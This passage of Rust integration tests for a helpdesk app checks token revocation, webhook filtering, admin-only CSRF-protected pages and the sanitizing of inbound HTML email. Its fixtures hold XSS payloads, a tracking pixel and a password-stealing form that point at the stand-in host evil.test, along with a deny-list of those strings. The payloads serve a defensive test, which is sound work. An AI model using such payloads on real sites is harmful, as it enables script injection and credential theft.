        (status, e["error"]["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("unknown_customer"))
    );
    let (status, e) = app
        .call(
            "POST",
            "/api/v1/tokens",
            &admin,
            Some(json!({"name": "x", "customer_id": me["id"], "agent_id": jo_id})),
        )
        .await;
    assert_eq!(
        (status, e["error"]["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("one_holder"))
    );
    let (status, list) = app.call("GET", "/api/v1/tokens", &admin, None).await;
    assert_eq!(status, StatusCode::OK);
    let listed = &list[0];
    assert_eq!(
        (
            listed["id"].clone(),
            listed["principal_kind"].as_str(),
            listed["scope"].as_str()
        ),
        (made["id"].clone(), Some("customer"), Some("read")),
        "newest first: {list}"
    );
    assert!(
        !list.to_string().contains(&secret) && !list.to_string().contains("hash"),
        "{list}"
    );
    let (status, _) = app
        .call(
            "DELETE",
            &format!("/api/v1/tokens/{}", made["id"]),
            &admin,
            None,
        )
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    assert_eq!(
        app.call("GET", "/api/v1/me", &secret, None).await.0,
        StatusCode::UNAUTHORIZED
    );
    let (_, list) = app.call("GET", "/api/v1/tokens", &admin, None).await;
    assert!(list[0]["revoked_at"].is_string(), "{list}");

    // Webhooks limited to some event types get only those.
    let (status, e) = app
        .call(
            "POST",
            "/api/v1/webhooks",
            &admin,
            Some(json!({"url": "http://127.0.0.1:9/a", "events": ["no_such_event"]})),
        )
        .await;
    assert_eq!(
        (status, e["error"]["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("unknown_event"))
    );
    let (_, only) = app
        .call(
            "POST",
            "/api/v1/webhooks",
            &admin,
            Some(json!({"url": "http://127.0.0.1:9/a", "events": ["escalated", "sla_breached"]})),
        )
        .await;
    assert_eq!(only["events"], json!(["escalated", "sla_breached"]));
    let (_, all) = app
        .call(
            "POST",
            "/api/v1/webhooks",
            &admin,
            Some(json!({"url": "http://127.0.0.1:9/b"})),
        )
        .await;
    assert_eq!(all["events"], json!([]));
    app.call("POST", "/api/v1/tickets", &eli, Some(json!({"customer": {"email": "d@example.com"}, "subject": "Late", "body": "Still late."})))
        .await;
    let deliveries = |id: &Value| format!("/api/v1/webhooks/{id}/deliveries");
    let (_, got_only) = app
        .call("GET", &deliveries(&only["id"]), &admin, None)
        .await;
    let (_, got_all) = app.call("GET", &deliveries(&all["id"]), &admin, None).await;
    assert_eq!(
        got_only,
        json!([]),
        "ticket_created is not among its events"
    );
    assert!(!got_all.as_array().unwrap().is_empty(), "{got_all}");
    let (_, hooks) = app.call("GET", "/api/v1/webhooks", &admin, None).await;
    assert_eq!(hooks[0]["events"], json!(["escalated", "sla_breached"]));
}

/// The admin screens over plain HTTP with a session cookie: every page and form is
/// refused to non-admins (403, nothing changes), every form needs the session's CSRF
/// token, a refused change is drawn again with 422, and user text comes back escaped.
async fn admin_pages_are_for_admins_with_csrf(app: TestApp) {
    app.agent("root@example.com", Role::Admin, Experience::Senior)
        .await;
    app.agent("mgr@example.com", Role::Manager, Experience::Senior)
        .await;
    let http = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let sign_in = async |email: &str| {
        let resp = http
            .post(format!("{}/api/v1/auth/login", app.base))
            .json(&json!({"email": email, "password": "correct horse battery"}))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), StatusCode::OK);
        let cookie = resp.headers()["set-cookie"]
            .to_str()
            .unwrap()
            .split(';')
            .next()
            .unwrap()
            .to_owned();
        let csrf = resp.json::<Value>().await.unwrap()["csrf_token"]
            .as_str()
            .unwrap()
            .to_owned();
        (cookie, csrf)
    };
    let get = async |cookie: &str, path: &str| {
        let r = http
            .get(format!("{}{path}", app.base))
            .header("cookie", cookie)
            .send()
            .await
            .unwrap();
        (r.status(), r.text().await.unwrap())
    };
    let post = async |cookie: &str, path: &str, form: &[(&str, &str)]| {
        let r = http
            .post(format!("{}{path}", app.base))
            .header("cookie", cookie)
            .form(form)
            .send()
            .await
            .unwrap();
        let to = r
            .headers()
            .get("location")
            .map(|l| l.to_str().unwrap().to_owned());
        (r.status(), to, r.text().await.unwrap())
    };
    let pages = [
        "/admin",
        "/admin/agents",
        "/admin/ladder",
        "/admin/sla",
        "/admin/mailboxes",
        "/admin/referrals",
        "/admin/templates",
        "/admin/webhooks",
        "/admin/tokens",
    ];
    let (mgr, mgr_csrf) = sign_in("mgr@example.com").await;
    for p in pages {
        let (status, html) = get(&mgr, p).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{p}");
        assert!(html.contains("admin role"), "{p}: {html}");
    }
    let (_, console) = get(&mgr, "/console").await;
    assert!(
        !console.contains("href=\"/admin\""),
        "no Admin link for a manager"
    );
    let (status, _, _) = post(
        &mgr,
        "/admin/teams",
        &[("csrf", &mgr_csrf), ("team_name", "Mutiny")],
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _, _) = post(
        &mgr,
        "/admin/agents/1",
        &[("csrf", &mgr_csrf), ("action", "switch_off")],
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(app.store.list_teams().await.unwrap().is_empty());
    assert!(
        app.store
            .list_agents()
            .await
            .unwrap()
            .iter()
            .all(|a| a.active)
    );

    let (admin, csrf) = sign_in("root@example.com").await;
    for p in pages {
        let (status, html) = get(&admin, p).await;
        assert_eq!(status, StatusCode::OK, "{p}");
        assert!(html.contains("href=\"/admin\""), "{p}: the Admin link");
        // Every form on the page carries the session's token.
        assert_eq!(
            html.matches("method=\"post\"").count(),
            html.matches(&format!("name=\"csrf\" value=\"{csrf}\""))
                .count(),
            "{p}"
        );
    }
    // Without the token (or with another session's), nothing happens.
    let (status, _, _) = post(&admin, "/admin/teams", &[("team_name", "No token")]).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _, _) = post(
        &admin,
        "/admin/teams",
        &[("csrf", &mgr_csrf), ("team_name", "Wrong token")],
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(app.store.list_teams().await.unwrap().is_empty());

    let (status, to, _) = post(
        &admin,
        "/admin/teams",
        &[("csrf", &csrf), ("team_name", "<script>alert(1)</script>")],
    )
    .await;
    assert_eq!(
        (status, to.as_deref()),
        (
            StatusCode::SEE_OTHER,
            Some("/admin/agents?done=team_added#teams")
        )
    );
    let (_, html) = get(&admin, "/admin/agents?done=team_added").await;
    assert!(
        html.contains("&#60;script&#62;alert(1)&#60;/script&#62;")
            && !html.contains("<script>alert"),
        "escaped: {}",
        html.lines()
            .filter(|l| l.contains("alert(1)"))
            .collect::<Vec<_>>()
            .join("\n")
    );
    assert!(html.contains("The team was added."));

    // A refused change: 422, the domain's words in the page, the typed values kept.
    let (status, _, html) = post(
        &admin,
        "/admin/sla/calendar",
        &[
            ("csrf", &csrf),
            ("time_zone", "Nowhere/Special"),
            ("hours_mon", "09:00-17:00"),
        ],
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{html}");
    assert!(
        html.contains("role=\"alert\"") && html.contains("value=\"Nowhere/Special\""),
        "{html}"
    );
    let (status, _, html) = post(
        &admin,
        "/admin/sla/calendar",
        &[
            ("csrf", &csrf),
            ("time_zone", "UTC"),
            ("hours_mon", "nine to five"),
        ],
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        html.contains("Monday: write opening hours as 09:00-17:00"),
        "{html}"
    );
    let (status, _, _) = post(
        &admin,
        "/admin/sla/calendar",
        &[
            ("csrf", &csrf),
            ("time_zone", "Europe/Berlin"),
            ("hours_mon", "09:00-12:00, 13:00-17:00"),
            ("holidays", "2026-12-25"),
        ],
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let cal = app.store.desk_config().await.unwrap().calendar_spec;
    assert_eq!(
        (cal.time_zone.as_str(), cal.hours.len(), cal.holidays.len()),
        ("Europe/Berlin", 2, 1)
    );

    // A template preview saves nothing; an unknown variable is refused with 422.
    let (status, _, html) = post(
        &admin,
        "/admin/templates/handoff",
        &[
            ("csrf", &csrf),
            ("action", "preview"),
            ("body", "Hi {{customer_name}} <b>x</b>"),
        ],
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        html.contains("&#60;b&#62;x&#60;/b&#62;") && html.contains("class=\"preview\""),
        "{html}"
    );
    let (status, _, html) = post(
        &admin,
        "/admin/templates/handoff",
        &[
            ("csrf", &csrf),
            ("action", "save"),
            ("body", "Hi {{nobody}}"),
        ],
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        html.contains("is not a variable of the handoff template"),
        "{html}"
    );
    assert!(
        app.store
            .setting("template:handoff")
            .await
            .unwrap()
            .is_none(),
        "nothing saved"
    );
}

/// A cookie for a session of `principal`, made straight in the store (how the console
/// and the portal sign people in is tested elsewhere).
async fn session_cookie(app: &TestApp, principal: Principal) -> String {
    let secret = auth::new_secret("rcs");
    app.store
        .create_session(recourse_store::NewSession {
            id_hash: auth::sha256_hex(&secret),
            principal,
            csrf_token: auth::new_secret("csrf"),
            now: recourse_web::now(),
            expires_at: Millis(recourse_web::now().0 + 3_600_000),
        })
        .await
        .unwrap();
    format!("{}={secret}", auth::SESSION_COOKIE)
}

/// A hostile HTML email through the real mail pipeline: the ticket page offers its
/// formatting in a sandboxed frame, and the frame's page keeps the words, the safe
/// link and the picture sent inside it while nothing that runs, submits, frames or
/// loads from elsewhere survives. Only signed-in agents get it.
async fn original_email_formatting(app: TestApp) {
    let pipeline = recourse_mail::Pipeline::new(
        app.store.clone(),
        Arc::new(recourse_mail::MailConfig {
            domain: "desk.test".into(),
            from: "support@desk.test".into(),
            ..recourse_mail::MailConfig::default()
        }),
    );
    let deliver = async |raw: String| {
        let (inbound, state) = pipeline
            .deliver(recourse_mail::Incoming {
                source: "smtp",
                envelope_from: Some("ada@example.com".into()),
                envelope_to: vec!["support@desk.test".into()],
                raw: raw.into_bytes(),
            })
            .await
            .unwrap();
        assert!(
            matches!(
                state,
                Some(recourse_store::MailState::Ticket | recourse_store::MailState::Threaded)
            ),
            "{inbound}: {state:?}"
        );
        let origin = app.store.inbound_mail_origin(inbound).await.unwrap();
        (inbound, origin.ticket_id.unwrap().0)
    };
    let hostile_html = r#"<html><head><title>Order</title><style>body{background:url(http://evil.test/bg)}</style>
<script>window.parent.__pwned = 1</script><link rel="stylesheet" href="http://evil.test/c.css"></head>
<body onload="alert(1)"><p onclick="alert(2)">My <b>kettle</b> arrived <i>broken</i>.</p>
<img src="http://evil.test/track.gif?u=ada" onerror="alert(3)" alt="tracker">
<img src="cid:photo1@ada">
<iframe src="http://evil.test/frame">inside the frame</iframe>
<form action="http://evil.test/steal"><input name="password"><button>Send</button></form>
<a href="javascript:alert(4)">click me</a>
<div style="width:expression(alert(5))">old ie</div>
<div style="background:url(http://evil.test/e.png)">background</div>
<p>The order is <a href="https://shop.example/orders/42">number 42</a>.</p>
</body></html>"#;
    let raw = format!(
        "From: Ada <ada@example.com>\r\nTo: support@desk.test\r\nSubject: Broken kettle\r\n\
         Message-ID: <kettle-1@example.com>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/related; boundary=\"rel\"\r\n\r\n\
         --rel\r\nContent-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n\
         --alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nMy kettle arrived broken.\r\n\
         --alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{hostile_html}\r\n--alt--\r\n\
         --rel\r\nContent-Type: image/png\r\nContent-ID: <photo1@ada>\r\n\
         Content-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n--rel--\r\n"
    );
    let (inbound, ticket) = deliver(raw).await;
    // A reply in plain text on the same ticket has no formatting to offer.
    let (plain_inbound, plain_ticket) = deliver(
        "From: Ada <ada@example.com>\r\nTo: support@desk.test\r\nSubject: Re: Broken kettle\r\n\
         Message-ID: <kettle-2@example.com>\r\nIn-Reply-To: <kettle-1@example.com>\r\n\r\n\
         Any news? <b>This is not markup.</b>\r\n"
            .into(),
    )
    .await;
    assert_eq!(plain_ticket, ticket, "the reply threads onto the ticket");
    // Abuse stays hidden: its formatting is not a way around the mask.
    let (rude_inbound, rude_ticket) = deliver(
        "From: Ada <ada@example.com>\r\nTo: support@desk.test\r\nSubject: Refund\r\n\
         Message-ID: <rude-1@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n\
         <p>You are a useless idiot and so is your manager.</p>\r\n"
            .into(),
    )
    .await;

    let (agent_id, agent_token) = app
        .agent("eli@example.com", Role::Agent, Experience::Junior)
        .await;
    let agent = session_cookie(&app, Principal::Agent(recourse_domain::AgentId(agent_id))).await;
    let ada = app
        .store
        .upsert_customer(
            &EmailAddress::parse("ada@example.com").unwrap(),
            None,
            Millis(1),
        )
        .await
        .unwrap();
    let ada = session_cookie(&app, Principal::Customer(ada.id)).await;
    let bo = app
        .store
        .upsert_customer(
            &EmailAddress::parse("bo@example.com").unwrap(),
            None,
            Millis(1),
        )
        .await
        .unwrap();
    let bo = session_cookie(&app, Principal::Customer(bo.id)).await;
    let http = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let get = async |cookie: Option<&str>, bearer: Option<&str>, path: &str| {
        let mut req = http.get(format!("{}{path}", app.base));
        if let Some(c) = cookie {
            req = req.header("cookie", c);
        }
        if let Some(b) = bearer {
            req = req.bearer_auth(b);
        }
        let r = req.send().await.unwrap();
        let status = r.status();
        let headers = r.headers().clone();
        (status, headers, r.text().await.unwrap())
    };

    // The ticket page offers the formatting of the HTML mail only.
    let (status, _, page) = get(Some(&agent), None, &format!("/console/tickets/{ticket}")).await;
    assert_eq!(status, StatusCode::OK);
    let frame = format!(
        r#"<iframe sandbox="allow-popups allow-popups-to-escape-sandbox" src="/console/mail/{inbound}/html""#
    );
    assert!(page.contains(&frame), "{page}");
    assert!(page.contains("Show the original formatting"));
    assert!(page.contains(r#"loading="lazy""#) && page.contains(r#"height="420""#));
    assert!(!page.contains("allow-scripts") && !page.contains("allow-same-origin"));
    assert!(
        !page.contains(&format!("/console/mail/{plain_inbound}/html")),
        "plain mail offers no formatting"
    );
    assert_eq!(page.matches("Show the original formatting").count(), 1);
    let (_, _, rude_page) = get(
        Some(&agent),
        None,
        &format!("/console/tickets/{rude_ticket}"),
    )
    .await;
    assert!(rude_page.contains("This message was hidden"), "{rude_page}");
    assert!(
        !rude_page.contains("/console/mail/"),
        "a masked message offers nothing"
    );

    // The frame's page: the words, the safe link and the inline picture; nothing else.
    let path = format!("/console/mail/{inbound}/html");
    let (status, headers, html) = get(Some(&agent), None, &path).await;
    assert_eq!(status, StatusCode::OK, "{html}");
    let csp = headers["content-security-policy"].to_str().unwrap();
    for part in [
        "sandbox allow-popups allow-popups-to-escape-sandbox;",
        "default-src 'none'",
        "img-src data:",
        "style-src 'unsafe-inline'",
        "frame-ancestors 'self'",
        "form-action 'none'",
    ] {
        assert!(csp.contains(part), "{part} missing from {csp}");
    }
    assert!(!csp.contains("script-src") && !csp.contains("frame-ancestors 'none'"));
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert_eq!(headers["referrer-policy"], "no-referrer");
    assert_eq!(headers["cache-control"], "private, no-store");
    assert!(
        headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/html")
    );
    let lower = html.to_ascii_lowercase();
    for bad in [
        "<script",
        "__pwned",
        "alert(",
        "onload",
        "onclick",
        "onerror",
        "<iframe",
        "inside the frame",
        "<form",
        "<input",
        "<button",
        "javascript:",
        "evil.test",
        "expression",
        "<link",
        "cid:",
    ] {
        assert!(!lower.contains(bad), "{bad} survived:\n{html}");
    }
    assert!(
        html.contains("My <b>kettle</b> arrived <i>broken</i>."),
        "{html}"
    );
    assert!(
        html.contains(r#"<a href="https://shop.example/orders/42" target="_blank" rel="noopener noreferrer">number 42</a>"#),
        "{html}"
    );
    assert!(
        html.contains(r#"<img src="data:image/png;base64,iVBORw0KGgo=">"#),
        "{html}"
    );
    assert!(
        html.contains("Remote images are not loaded (1 left out)"),
        "{html}"
    );
    assert!(html.contains("click me") && html.contains("old ie"));

    // Plain mail and masked mail get a notice instead; unknown mail a 404 in frame form.
    let (status, _, html) = get(
        Some(&agent),
        None,
        &format!("/console/mail/{plain_inbound}/html"),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        html.contains("came without formatting") && !html.contains("Any news"),
        "{html}"
    );
    let (status, _, html) = get(
        Some(&agent),
        None,
        &format!("/console/mail/{rude_inbound}/html"),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        html.contains("hidden because it contains abuse") && !html.contains("idiot"),
        "{html}"
    );
    let (status, headers, _) = get(Some(&agent), None, "/console/mail/999999/html").await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert!(
        headers["content-security-policy"]
            .to_str()
            .unwrap()
            .contains("frame-ancestors 'self'")
    );
    let (status, _, _) = get(Some(&agent), None, "/console/mail/abc/html").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);

    // Nobody else: the sender, another customer, a stranger, and an API token (the
    // console signs in by session only) are all sent to sign in, seeing nothing.
    for (who, cookie, bearer) in [
        ("the sender", Some(ada.as_str()), None),
        ("another customer", Some(bo.as_str()), None),
        ("a stranger", None, None),
        ("an agent's API token", None, Some(agent_token.as_str())),
    ] {
        let (status, headers, body) = get(cookie, bearer, &path).await;
        assert_eq!(status, StatusCode::SEE_OTHER, "{who}");
        assert_eq!(headers["location"], "/login", "{who}");
        assert!(!body.contains("kettle"), "{who}: {body}");
    }
}
